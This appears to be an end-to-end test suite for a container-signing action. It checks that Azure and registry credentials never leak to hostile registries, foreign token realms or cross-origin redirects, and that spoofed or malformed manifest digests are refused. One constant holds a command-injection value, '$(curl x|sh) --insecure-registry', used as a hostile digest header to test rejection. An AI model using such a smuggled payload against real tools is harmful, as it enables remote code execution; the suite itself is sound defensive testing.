// Issue 11, items 1 and 5, end to end through the committed bundle: credentials go only where they
// belong (the Azure token to registries known to be ACR and to their own HTTPS token endpoints,
// registry-password to one registry, nothing across a redirect to another origin), and a tag's
// digest is what the manifest bytes hash to. The hostile registries and token endpoints
// (stack/hostile.ts) keep everything they receive; the tests show what never got there. These
// import nothing from src (they run the bundle); registry-trust-units.test.ts has the in-process
// checks.
import assert from 'node:assert/strict'
import { createHash, randomBytes } from 'node:crypto'
import { after, before, test } from 'node:test'
import {
  fakeManifest,
  startHostileRegistry,
  startTokenServer,
  type Received
} from '../stack/hostile.ts'
import type { ActionRun } from '../support/action.ts'
import { startE2E, type E2E } from '../support/e2e.ts'
import { e2eDescribe } from '../support/stack-env.ts'

const SUBJECT = 'CN=trust.example,O=Notation,L=Seattle,ST=WA,C=US'
const CERT = 'trust-signer'
const ACR_USERNAME = '00000000-0000-0000-0000-000000000000'
const MALFORMED = 'sha256:$(curl x|sh) --insecure-registry'

const escape = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
const sha256 = (text: string | Buffer): string =>
  `sha256:${createHash('sha256').update(text).digest('hex')}`

/** `::error::` text with the toolkit's %-escapes decoded. */
function errorsOf(run: ActionRun): string {
  return run.errors.join('\n').replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')
}

e2eDescribe('credentials go only where they belong, end to end', () => {
  let e2e: E2E
  before(async () => {
    e2e = await startE2E()
    await e2e.stack.keyVault.vault.seedSelfSigned(CERT, { subject: SUBJECT })
  })
  after(() => e2e?.stop())

  const signInputs = (images: string, extra: Record<string, string> = {}) => ({
    ...e2e.azureInputs,
    command: 'sign',
    certificate: CERT,
    images,
    ...extra
  })
  const signs = (): number => e2e.notationCalls().filter(c => c.argv[0] === 'sign').length

  /** Secrets (the stack's and `extra`) found in anything the servers received, Basic decoded too. */
  function leaked(received: Received[], extra: string[] = []): string[] {
    const text = received
      .map(r => {
        const basic = /^Basic (.+)$/i.exec(r.authorization ?? '')?.[1]
        const decoded = basic ? Buffer.from(basic, 'base64').toString('utf8') : ''
        return [r.authorization ?? '', decoded, r.query, decodeURIComponent(r.query), r.body].join(
          '\n'
        )
      })
      .join('\n')
    const form = received.map(r => [...new URLSearchParams(r.body).values()].join('\n')).join('\n')
    const secrets = [...e2e.stack.issuedSecrets().map(s => s.value), ...extra]
    return secrets.filter(s => text.includes(s) || form.includes(s))
  }

  test('a registry that is not ACR gets no Azure token: its realm sees no credential and no form', async () => {
    const realm = await startTokenServer(e2e.stack)
    const hostile = await startHostileRegistry(e2e.stack, { realm: realm.realm })
    hostile.serve('app', 'v1', fakeManifest('third party'))
    const signed = signs()
    const run = await e2e.run(signInputs(`${hostile.host}/app:v1`))
    const sent = [...realm.received, ...hostile.received]
    assert.deepEqual(
      realm.received.filter(r => r.authorization !== undefined || r.body !== ''),
      [],
      'no credential and no form body at the realm'
    )
    assert.ok(!sent.some(r => r.path === '/oauth2/exchange'), 'no token exchange was tried')
    assert.deepEqual(leaked(sent), [])
    assert.equal(run.code, 1, run.stdout)
    assert.match(
      errorsOf(run),
      new RegExp(`^${escape(hostile.host)} refused a token .*The registry needs credentials`)
    )
    assert.ok(
      run.stdout.includes(`${hostile.host} is not known to be an Azure Container Registry`),
      run.stdout
    )
    assert.equal(signs(), signed, 'nothing was signed')
  })

  test('a registry named as ACR whose realm is on another host is refused before anything goes there', async () => {
    const realm = await startTokenServer(e2e.stack, { anonymous: true })
    const hostile = await startHostileRegistry(e2e.stack, { realm: realm.realm })
    hostile.serve('app', 'v1', fakeManifest('lookalike'))
    const run = await e2e.run(
      signInputs(`${hostile.host}/app:v1`, {
        'acr-registries': `${e2e.stack.registry.host}\n${hostile.host}`
      })
    )
    assert.deepEqual(realm.received, [], 'nothing was sent to the realm')
    assert.deepEqual(leaked(hostile.received), [])
    assert.equal(run.code, 1, run.stdout)
    const errors = errorsOf(run)
    assert.match(errors, new RegExp(`^${escape(hostile.host)} names the token realm`))
    assert.ok(errors.includes(realm.realm), errors)
    assert.match(errors, /not on the registry's own host/)
  })

  test('a token exchange answered 307 to another origin: the Entra token stays home', async () => {
    const elsewhere = await startTokenServer(e2e.stack, { anonymous: true })
    const hostile = await startHostileRegistry(e2e.stack, {
      redirect: { status: 307, to: elsewhere.origin, only: 'exchange' }
    })
    hostile.serve('app', 'v1', fakeManifest('redirecting'))
    const run = await e2e.run(
      signInputs(`${hostile.host}/app:v1`, {
        'acr-registries': `${e2e.stack.registry.host}\n${hostile.host}`
      })
    )
    assert.deepEqual(elsewhere.received, [], 'nothing reached the other origin')
    assert.equal(run.code, 1, run.stdout)
    const errors = errorsOf(run)
    assert.ok(errors.includes(`${hostile.origin} redirected a request that carries a credential`))
    assert.ok(errors.includes(elsewhere.origin), errors)
  })

  test('a token endpoint answering 308 to another origin: the refresh token stays home', async () => {
    const elsewhere = await startTokenServer(e2e.stack, { anonymous: true })
    const hostile = await startHostileRegistry(e2e.stack, {
      redirect: { status: 308, to: elsewhere.origin, only: 'token' }
    })
    hostile.serve('app', 'v1', fakeManifest('redirecting token'))
    const { password } = await e2e.stack.registry.credentials({ subject: e2e.stack.principalId })
    const run = await e2e.run(
      signInputs(`${hostile.host}/app:v1`, {
        'registry-username': ACR_USERNAME,
        'registry-password': password,
        'registry-server': hostile.host
      })
    )
    assert.deepEqual(elsewhere.received, [], 'nothing reached the other origin')
    assert.deepEqual(leaked(elsewhere.received, [password]), [])
    assert.equal(run.code, 1, run.stdout)
    const errors = errorsOf(run)
    assert.ok(errors.includes(`${hostile.origin} redirected a request that carries a credential`))
    assert.ok(errors.includes(elsewhere.origin), errors)
  })

  test('a same-origin redirect of a credential request is followed, a few times at most', async () => {
    const hostile = await startHostileRegistry(e2e.stack, { anonymous: true })
    hostile.behaviour.redirect = { status: 307, to: hostile.origin, only: 'exchange', times: 1 }
    const acr = { 'acr-registries': `${e2e.stack.registry.host}\n${hostile.host}` }
    hostile.serve('app', 'v1', fakeManifest('same origin'))
    const run = await e2e.run(signInputs(`${hostile.host}/app:v1`, acr))
    // Signed in (through one redirect, body re-sent on the same origin) and resolved; notation
    // then fails to push to a registry that takes no pushes.
    assert.ok(run.stdout.includes(`Signed in to ${hostile.host} with the Azure identity`))
    const exchanges = hostile.received.filter(r => r.path === '/oauth2/exchange')
    assert.equal(exchanges.length, 2)
    assert.equal(exchanges[1]?.body, exchanges[0]?.body)
    assert.ok(run.outputs['digests']?.startsWith(`${hostile.host}/app@sha256:`))

    hostile.reset()
    hostile.behaviour.redirect = { status: 307, to: hostile.origin, only: 'exchange' }
    const looping = await e2e.run(signInputs(`${hostile.host}/app:v1`, acr))
    assert.equal(looping.code, 1)
    assert.match(errorsOf(looping), /more than 5 redirects/)
    assert.equal(hostile.received.filter(r => r.path === '/oauth2/exchange').length, 6)
  })

  test('registry-username/password bound to one registry never reach the other', async () => {
    const password = `pw-${randomBytes(12).toString('hex')}`
    e2e.stack.registry.acr.addBasicUser('ci-robot', password)
    await e2e.stack.registry.pushImage('bound/app', { tag: 'v1' })
    const realm = await startTokenServer(e2e.stack)
    const hostile = await startHostileRegistry(e2e.stack, { realm: realm.realm })
    hostile.serve('app', 'v1', fakeManifest('other registry'))
    const tokenCalls = e2e.stack.registry.server.calls.length
    const run = await e2e.run(
      signInputs(`${e2e.stack.registry.host}/bound/app:v1\n${hostile.host}/app:v1`, {
        'registry-username': 'ci-robot',
        'registry-password': password,
        'registry-server': e2e.stack.registry.host
      })
    )
    const sent = [...realm.received, ...hostile.received]
    assert.deepEqual(
      sent.filter(r => r.authorization !== undefined),
      []
    )
    assert.deepEqual(leaked(sent, [password]), [])
    // The other registry is private and got no password: the run fails there, cleanly.
    assert.equal(run.code, 1, run.stdout)
    assert.match(errorsOf(run), new RegExp(`^${escape(hostile.host)} refused a token`))
    // Control: the bound registry alone is asked with Basic credentials. (In the run above the
    // other registry's refusal may end the run before the bound one's token request is sent.)
    const control = await e2e.run(
      signInputs(`${e2e.stack.registry.host}/bound/app:v1`, {
        'registry-username': 'ci-robot',
        'registry-password': password,
        'registry-server': e2e.stack.registry.host
      })
    )
    assert.equal(control.code, 0, control.stdout)
    assert.ok(
      e2e.stack.registry.server.calls
        .slice(tokenCalls)
        .some(c => c.route === 'acr.token' && c.authorized),
      'the bound registry got the credentials'
    )
  })
})

e2eDescribe('digests are what the manifest bytes hash to', () => {
  let e2e: E2E
  before(async () => {
    e2e = await startE2E()
    await e2e.stack.keyVault.vault.seedSelfSigned(CERT, { subject: SUBJECT })
  })
  after(() => e2e?.stop())

  /** A run whose tag the registry answers with `digestHeader`; what the run left behind. */
  async function runWith(digestHeader: string, tag: string) {
    const hostile = await startHostileRegistry(e2e.stack, { anonymous: true })
    hostile.serve('app', tag, { ...fakeManifest(tag), digestHeader })
    const image = `${hostile.host}/app:${tag}`
    const from = e2e.notationCalls().length
    const run = await e2e.run({
      ...e2e.azureInputs,
      command: 'sign',
      certificate: CERT,
      images: image
    })
    const argv = e2e
      .notationCalls()
      .slice(from)
      .flatMap(c => c.argv)
    return { run, image, hostile, argv }
  }

  test('a wrong Docker-Content-Digest for a tag fails the run naming the image', async () => {
    const claimed = sha256('some other manifest')
    const { run, image, hostile, argv } = await runWith(claimed, 'wrong')
    assert.ok(!(run.outputs['digests'] ?? '').includes(claimed), 'not in the digests output')
    assert.ok(!(run.outputs['images'] ?? '').includes(claimed), 'not in the images output')
    assert.ok(!run.summary.includes(claimed), 'not in the summary')
    assert.ok(!argv.some(a => a.includes(claimed)), 'notation never got it')
    assert.equal(run.code, 1, run.stdout)
    const errors = errorsOf(run)
    assert.ok(errors.includes(hostile.host) && errors.includes(`'${image}'`), errors)
    assert.match(errors, /hashes to sha256:[0-9a-f]{64}; refusing a digest its bytes do not prove/)
  })

  test('a malformed Docker-Content-Digest is refused and goes nowhere, not even the log', async () => {
    const { run, image, hostile, argv } = await runWith(MALFORMED, 'malformed')
    for (const part of ['$(curl', '--insecure-registry']) {
      assert.ok(!(run.outputs['digests'] ?? '').includes(part), 'not in the digests output')
      assert.ok(!(run.outputs['images'] ?? '').includes(part), 'not in the images output')
      assert.ok(!run.summary.includes(part), 'not in the summary')
      assert.ok(!run.stdout.includes(part) && !run.stderr.includes(part), 'not in the log')
      assert.ok(!argv.some(a => a.includes(part)), 'notation never got it')
    }
    assert.equal(run.code, 1, run.stdout)
    const errors = errorsOf(run)
    assert.ok(errors.includes(hostile.host) && errors.includes(`'${image}'`), errors)
    assert.match(errors, /malformed Docker-Content-Digest/)
  })
})
